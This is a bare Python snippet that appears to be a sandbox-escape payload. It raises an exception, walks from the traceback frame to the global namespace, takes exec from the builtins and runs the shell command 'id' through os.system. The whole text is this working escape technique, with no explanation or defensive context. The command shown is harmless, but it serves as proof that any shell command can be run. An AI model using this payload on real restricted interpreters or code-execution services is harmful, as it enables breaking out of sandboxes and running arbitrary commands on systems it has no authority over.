try:
    raise RuntimeError("x")
except RuntimeError as e:
    g = e.__traceback__.tb_frame.f_globals
g["__builtins__"].exec("import os; os.system('id')")
